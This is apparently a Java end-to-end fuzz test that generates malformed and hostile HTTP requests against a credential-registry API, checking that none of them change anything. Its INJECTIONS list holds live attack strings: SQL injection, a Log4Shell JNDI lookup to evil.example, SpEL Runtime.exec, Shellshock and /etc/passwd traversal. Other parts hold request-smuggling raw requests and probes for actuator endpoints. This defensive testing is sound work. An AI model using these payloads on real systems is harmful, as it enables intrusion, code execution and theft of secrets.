package io.credreg.e2e;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Function;

/**
 * A seeded generator of malformed and hostile requests for both sides: broken JSON, wrong types, unknown and
 * repeated fields, huge and deeply nested bodies, control characters, overlong UTF-8, path tricks, injection strings,
 * odd methods, content types and headers, and raw requests no client library would send.
 *
 * <p>None of them may change anything. Paths that name the one real credential are only paired with a body that
 * carries at least one defect the registry must refuse (the first mutation is always one of those), and every other
 * path names nothing that exists, so a request the registry wrongly accepted shows up as a changed event count.
 */
final class HostileRequests {

    /** One generated request. {@code raw} is set for the few that bypass the HTTP client. */
    record Hostile(String kind, boolean querySide, String method, String path, Map<String, String> headers,
                   byte[] body, String contentType, byte[] raw) {

        String describe() {
            String shown = raw != null ? new String(raw, StandardCharsets.ISO_8859_1)
                    : method + " " + path + " " + headers + " "
                    + (body == null ? "" : new String(body, StandardCharsets.UTF_8));
            return kind + " " + (querySide ? "query" : "command") + ": "
                    + (shown.length() > 300 ? shown.substring(0, 300) + "…(" + shown.length() + ")" : shown);
        }
    }

    static final String MARKER_PREFIX = "sk-proj-fuzz";

    private static final String[] INJECTIONS = {
            "' OR '1'='1", "'; DROP TABLE domain_event_entry; --", "\" OR 1=1 --", "1; SELECT pg_sleep(5)",
            "$..secret", "$[?(@.secret)]", "${jndi:ldap://evil.example/a}", "${env:REGISTRY_MASTER_KEY}",
            "${${lower:j}ndi:dns://x}", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "{{7*7}}",
            "<script>alert(1)</script>", "%s%s%s%n%x", "\r\nSet-Cookie: a=b", "../../etc/passwd",
            "\\u0000", "' UNION SELECT wrapped_key FROM data_key --", "*)(uid=*))(|(uid=*", "() { :; }; echo x"};
    private static final String[] CONTROL = {"\u0000", "\u0001", "\u0007", "\u0008", "\u001b[31m", "\u007f", "\u0085",
            "\u2028", "\u202e", "\ufeff", "\ud800", "\udfff", "\t\n\r"};
    private static final String[] METHODS = {"GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE",
            "PROPFIND", "FOO"};
    private static final String[] CONTENT_TYPES = {"application/json", "application/json; charset=utf-8",
            "application/json; charset=utf-16", "application/json; charset=bogus", "application/json;;;",
            "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data",
            "multipart/form-data; boundary=", "*/*", "application/vnd.evil+json", "application/json; charset=\"",
            "garbage"};
    private static final String[] ACCEPTS = {"text/html", "application/xml", "*/*", "garbage", "application/json;q=x",
            "image/png, */*;q=0", ""};
    private static final String[] PATH_TRICKS = {"%2e%2e/", "%2e%2e%2f", "..%2f", "%252e%252e%252f", "..;/",
            "%c0%ae%c0%ae/", "%00", "%ff%fe", "%5c..%5c", ";jsessionid=x", "%0d%0a", "%20", "%", "%zz", "//",
            "%u002e", "%E2%80%AE", "~", ".%2e/", "%2F"};

    private final Random random;
    private final String credential;

    HostileRequests(long seed, String credential) {
        this.random = new Random(seed);
        this.credential = credential;
    }

    List<Hostile> generate(int count) {
        List<Hostile> all = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            int roll = random.nextInt(100);
            if (roll < 45) {
                all.add(badBody());
            } else if (roll < 60) {
                all.add(pathTrick());
            } else if (roll < 72) {
                all.add(querySideProbe());
            } else if (roll < 84) {
                all.add(wrongMethodOrMedia());
            } else if (roll < 92) {
                all.add(hugeHeaders());
            } else {
                all.add(raw());
            }
        }
        return all;
    }

    // ---------------------------------------------------------------- bodies

    /** A body endpoint of the command side with a body that has at least one defect that must be refused. */
    private Hostile badBody() {
        int endpoint = random.nextInt(4);
        Map<String, Object> fields = new LinkedHashMap<>();
        String method;
        String path;
        switch (endpoint) {
            case 0 -> {
                method = "POST";
                path = "/api/credentials";
                fields.put("name", "fuzz " + word());
                fields.put("provider", "openai");
                fields.put("secret", marker());
            }
            case 1 -> {
                method = "PATCH";
                path = "/api/credentials/" + credential;
                fields.put("name", "fuzz " + word());
            }
            case 2 -> {
                method = "PUT";
                path = "/api/credentials/" + credential + "/secret";
                fields.put("secret", marker());
            }
            default -> {
                method = "PUT";
                path = "/api/instances/fuzz-" + word() + "/settings/openai.default";
                fields.put("credentialId", credential);
            }
        }
        BodyDefect defect = pick(BodyDefect.values());
        byte[] body = defect.apply(this, fields);
        // noise on top: never repairs the defect, only makes the body more hostile
        if (random.nextInt(3) == 0 && defect.keepsJsonText()) {
            body = addNoise(body);
        }
        Map<String, String> headers = new LinkedHashMap<>();
        if (random.nextInt(4) == 0) {
            headers.put("X-Actor", random.nextBoolean() ? pick(INJECTIONS).replaceAll("[\\r\\n]", "") : word());
        }
        String contentType = random.nextInt(6) == 0 ? pick(CONTENT_TYPES) : "application/json";
        return new Hostile("body:" + defect.label, false, method, path, headers, body, contentType, null);
    }

    /** Defects every one of which the command side must refuse, whatever else the body holds. */
    enum BodyDefect {
        TRUNCATED("truncated", true, (g, f) -> {
            String json = g.json(f);
            return json.substring(0, 1 + g.random.nextInt(json.length() - 1));
        }),
        BROKEN_SYNTAX("broken-syntax", true, (g, f) -> g.pick(new String[]{
                g.json(f).replace("\":", "\" "), g.json(f).replace("\":", "\":,"), g.json(f).replace("\"", "'"),
                "{" + g.json(f), g.json(f).replace("{", "{/* c */"), "{\"name\":}", "{,}", "}{", "{\"a\" 1}",
                g.json(f).replace("}", ",}"), "{\"name\": NaN}", "\ufeff" + g.json(f).replace(":", "="),
                "{\"name\":\"unterminated"})),
        WRONG_TYPE("wrong-type", true, (g, f) -> {
            String field = g.pick(f.keySet().toArray(String[]::new));
            f.put(field, g.pick(new Object[]{42, -1.5e308, true, false, List.of(1, "a"), Map.of("v", g.marker()),
                    List.of(), Map.of()}));
            return g.json(f);
        }),
        NULL_OR_MISSING("null-or-missing", true, (g, f) -> {
            String field = g.pick(f.keySet().toArray(String[]::new));
            if (g.random.nextBoolean()) {
                f.put(field, null);
            } else {
                f.remove(field);
            }
            return g.json(f);
        }),
        UNKNOWN_FIELD("unknown-field", true, (g, f) -> {
            f.put(g.pick(new String[]{"admin", "id", "status", "__proto__", "constructor", "secretVersion",
                    "provider ", "Name", "SECRET", "$where", "name\u0000"}), g.pick(new Object[]{true, 1, "x"}));
            return g.json(f);
        }),
        DUPLICATE_FIELD("duplicate-field", true, (g, f) -> {
            String json = g.json(f);
            String field = g.pick(f.keySet().toArray(String[]::new));
            return json.substring(0, json.length() - 1) + ",\"" + field + "\":\"" + g.marker() + "\"}";
        }),
        TRAILING("trailing-tokens", true, (g, f) -> g.json(f) + g.pick(new String[]{" {}", " []", " x", ",", "}",
                " \"a\"", " 1", "\u0000"})),
        NOT_AN_OBJECT("not-an-object", true, (g, f) -> g.pick(new String[]{"[]", "\"text\"", "42", "null", "true",
                "[" + g.json(f) + "]", "", " ", "\n"})),
        DEEP_NESTING("deep-nesting", false, (g, f) -> {
            int depth = g.pick(new Integer[]{600, 2_000, 10_000});
            if (g.random.nextBoolean()) {
                return "{\"name\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
            }
            return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
        }),
        HUGE("huge", false, (g, f) -> {
            int size = g.pick(new Integer[]{9_000, 60_000, 66_000, 200_000, 1_000_000});
            String field = g.random.nextBoolean() && f.containsKey("secret") ? "secret"
                    : f.containsKey("name") ? "name" : "credentialId";
            f.put(field, "sk-" + "A".repeat(size));
            return g.json(f);
        }),
        HUGE_ARRAY("huge-array", false, (g, f) -> {
            f.put("extra", java.util.Collections.nCopies(g.pick(new Integer[]{1_000, 20_000}), 1));
            return g.json(f);
        }),
        BAD_VALUE("bad-value", true, (g, f) -> {
            // values that are well-typed JSON but break a rule: control characters, injections, wrong patterns
            String evil = g.pick(CONTROL) + g.pick(INJECTIONS) + g.pick(CONTROL);
            if (f.containsKey("provider")) {
                f.put("provider", g.random.nextBoolean() ? evil : g.pick(new String[]{"OpenAI", "-x", "", " ",
                        "p".repeat(33), "open ai"}));
            } else if (f.containsKey("credentialId")) {
                f.put("credentialId", g.random.nextBoolean() ? evil : UUID.randomUUID() + "'");
            } else if (f.containsKey("name")) {
                // only true control characters here: any other oddity could make a valid name
                f.put("name", "n" + g.pick(new String[]{"\u0000", "\u0001", "\u0007", "\u0008", "\u001b",
                        "\u007f", "\t", "\n", "\r"}) + evil);
            } else {
                f.put("secret", g.random.nextBoolean() ? "   " : "sk-" + "é".repeat(4_100));
            }
            return g.json(f);
        }),
        OVERLONG_UTF8("overlong-utf8", false, null);

        private final String label;
        private final boolean keepsJsonText;
        private final java.util.function.BiFunction<HostileRequests, Map<String, Object>, String> mutation;

        BodyDefect(String label, boolean keepsJsonText,
                   java.util.function.BiFunction<HostileRequests, Map<String, Object>, String> mutation) {
            this.label = label;
            this.keepsJsonText = keepsJsonText;
            this.mutation = mutation;
        }

        boolean keepsJsonText() {
            return keepsJsonText;
        }

        byte[] apply(HostileRequests generator, Map<String, Object> fields) {
            if (mutation != null) {
                return mutation.apply(generator, fields).getBytes(StandardCharsets.UTF_8);
            }
            return generator.overlongUtf8(fields);
        }
    }

    /**
     * Invalid UTF-8 (overlong encodings of '.', '/' and NUL, lone continuation bytes, 0xFF) inside a string, plus an
     * unknown field, so that even a decoder that repairs the bytes leaves a body that must be refused.
     */
    private byte[] overlongUtf8(Map<String, Object> fields) {
        byte[][] sequences = {{(byte) 0xC0, (byte) 0xAE}, {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},
                {(byte) 0xC0, (byte) 0x80}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                {(byte) 0x80}, {(byte) 0xFF, (byte) 0xFE}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}};
        fields.put("overlong", "PLACEHOLDER");
        String json = json(fields);
        int at = json.indexOf("PLACEHOLDER");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(json.substring(0, at).getBytes(StandardCharsets.UTF_8));
        for (int i = 0; i < 1 + random.nextInt(4); i++) {
            out.writeBytes(pick(sequences));
        }
        out.writeBytes(json.substring(at + "PLACEHOLDER".length()).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private byte[] addNoise(byte[] body) {
        String text = new String(body, StandardCharsets.UTF_8);
        String noise = switch (random.nextInt(3)) {
            case 0 -> " ".repeat(random.nextInt(200));
            case 1 -> "\n\t\r";
            default -> "";
        };
        return (noise + text + noise).getBytes(StandardCharsets.UTF_8);
    }

    // ---------------------------------------------------------------- paths

    /** Tricky paths on both sides; they name nothing that exists, so no method may change anything. */
    private Hostile pathTrick() {
        boolean query = random.nextBoolean();
        String trick = pick(PATH_TRICKS);
        String base = pick(query
                ? new String[]{"/api/credentials/", "/api/instances/", "/api/admin/processors/x", "/api/"}
                : new String[]{"/api/credentials/", "/api/instances/", "/api/", "/"});
        String tail = pick(new String[]{"actuator/env", "actuator/heapdump", "etc/passwd", "api/credentials",
                UUID.randomUUID().toString(), "settings/openai.default", "h2-console", "error", "swagger-ui.html"});
        String path = base + trick.repeat(1 + random.nextInt(3)) + tail;
        if (random.nextInt(8) == 0) {
            path = base + "x".repeat(random.nextBoolean() ? 3_000 : 20_000);
        } else if (random.nextInt(6) == 0) {
            path = base + enc(pick(INJECTIONS));
        }
        String method = pick(METHODS);
        return new Hostile("path", query, method, path, Map.of(), optionalSmallBody(), "application/json", null);
    }

    /** The query side's endpoints with hostile identifiers and parameters. */
    private Hostile querySideProbe() {
        String evil = random.nextBoolean() ? pick(INJECTIONS) : pick(CONTROL) + word() + pick(CONTROL);
        String path = switch (random.nextInt(7)) {
            case 0 -> "/api/credentials?provider=" + enc(evil);
            case 1 -> "/api/credentials?status=" + enc(evil) + "&status=active&name=" + enc(pick(INJECTIONS));
            case 2 -> "/api/credentials?name=" + enc("x".repeat(random.nextBoolean() ? 300 : 5_000));
            case 3 -> "/api/credentials/" + enc(evil) + pick(new String[]{"", "/history", "/deletion-impact"});
            case 4 -> "/api/instances/" + enc(evil) + "/settings";
            case 5 -> "/api/admin/processors/x" + enc(evil) + pick(new String[]{"", "/replay"});
            default -> "/api/credentials?" + enc(evil) + "=" + enc(evil) + "&&&=&provider[]=a&provider=%ZZ";
        };
        String method = random.nextInt(4) == 0 ? pick(METHODS) : "GET";
        if (path.startsWith("/api/admin/processors/x") && !"GET".equals(method) && !"HEAD".equals(method)) {
            method = "POST";
        }
        Map<String, String> headers = new LinkedHashMap<>();
        if (random.nextInt(3) == 0) {
            headers.put("Accept", pick(ACCEPTS));
        }
        return new Hostile("query", true, method, path, headers, optionalSmallBody(), pick(CONTENT_TYPES), null);
    }

    /** Known paths with fresh identifiers, but a method they do not take, or a media type they do not speak. */
    private Hostile wrongMethodOrMedia() {
        String id = UUID.randomUUID().toString();
        String path = pick(new String[]{"/api/credentials", "/api/credentials/" + id, "/api/credentials/" + id
                + "/secret", "/api/instances/fuzz-" + word() + "/settings/openai.default", "/api/instances/fuzz-"
                + word()});
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Accept", pick(ACCEPTS));
        String contentType = pick(CONTENT_TYPES);
        byte[] body = random.nextBoolean() ? ("a=b&name=" + enc(pick(INJECTIONS))).getBytes(StandardCharsets.UTF_8)
                : json(Map.of("credentialId", id, "unknown", true)).getBytes(StandardCharsets.UTF_8);
        return new Hostile("method-media", false, pick(METHODS), path, headers, body, contentType, null);
    }

    /** Oversized or odd headers (what the HTTP client lets through; the rest goes raw). */
    private Hostile hugeHeaders() {
        Map<String, String> headers = new LinkedHashMap<>();
        switch (random.nextInt(5)) {
            case 0 -> headers.put("X-Actor", "a".repeat(random.nextBoolean() ? 9_000 : 70_000));
            case 1 -> {
                for (int i = 0; i < 120; i++) {
                    headers.put("X-Fuzz-" + i, "v".repeat(100));
                }
            }
            case 2 -> headers.put("X-Request-Id", pick(INJECTIONS).replaceAll("[\\r\\n]", "") + "x".repeat(200));
            case 3 -> headers.put("Cookie", "JSESSIONID=" + "c".repeat(10_000));
            default -> headers.put("Authorization", "Bearer " + MARKER_PREFIX + "-" + word() + word());
        }
        boolean query = random.nextBoolean();
        String path = query ? "/api/credentials?provider=openai" : "/api/instances/fuzz-" + word();
        String method = query ? "GET" : "DELETE";
        return new Hostile("headers", query, method, path, headers, null, null, null);
    }

    /** Requests the servlet container must refuse on its own; sent over a plain socket. */
    private Hostile raw() {
        boolean query = random.nextBoolean();
        String target = query ? "/api/credentials" : "/api/instances/fuzz-" + word();
        String request = switch (random.nextInt(10)) {
            case 0 -> "GET /api/credentials/a\u0000b HTTP/1.1\r\nHost: x\r\n\r\n";
            case 1 -> "GET /api/cred entials HTTP/1.1\r\nHost: x\r\n\r\n";
            case 2 -> "GET " + target + " HTTP/1.1\r\nHost: x\r\nX-Actor: a\u0001b\u0007\r\n\r\n";
            case 3 -> "GET " + target + " HTTP/1.1\r\nHost: x\r\nBroken header line\r\n\r\n";
            case 4 -> "POST /api/credentials HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                    + "Transfer-Encoding: chunked\r\n\r\nZZZ\r\n{}\r\n0\r\n\r\n";
            case 5 -> "POST /api/credentials HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 7\r\n\r\n{}";
            case 6 -> "GET /../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n";
            case 7 -> "G\u00e9T " + target + " HTTP/1.1\r\nHost: x\r\n\r\n";
            case 8 -> "GET " + target + " HTTP/7.0\r\nHost: x\r\n\r\n";
            default -> "GET " + target + "?a=\u001b[31m HTTP/1.1\r\nHost: x\r\n\r\n";
        };
        if (!request.contains("Connection:")) {
            request = request.replaceFirst("\r\n", "\r\nConnection: close\r\n");
        }
        return new Hostile("raw", query, null, null, Map.of(), null, null,
                request.getBytes(StandardCharsets.ISO_8859_1));
    }

    private byte[] optionalSmallBody() {
        if (random.nextInt(3) != 0) {
            return null;
        }
        return pick(new String[]{"{", "{\"name\":\"" + marker() + "\"}", "[[[[[", "\u0000\u0001",
                pick(INJECTIONS)}).getBytes(StandardCharsets.UTF_8);
    }

    // ---------------------------------------------------------------- helpers

    /** A secret-looking value, unique per request, so that its appearance in a log or an answer can be found. */
    String marker() {
        return MARKER_PREFIX + "-" + word() + word() + word();
    }

    private String word() {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < 8; i++) {
            s.append((char) ('a' + random.nextInt(26)));
        }
        return s.toString();
    }

    private String json(Map<String, Object> fields) {
        return io.credreg.e2e.support.Api.JSON.writeValueAsString(fields);
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }

    @SafeVarargs
    private <T> T pick(T... choices) {
        return choices[random.nextInt(choices.length)];
    }

    @SuppressWarnings("unused")
    private static <T> Function<T, T> identity() {
        return t -> t;
    }
}
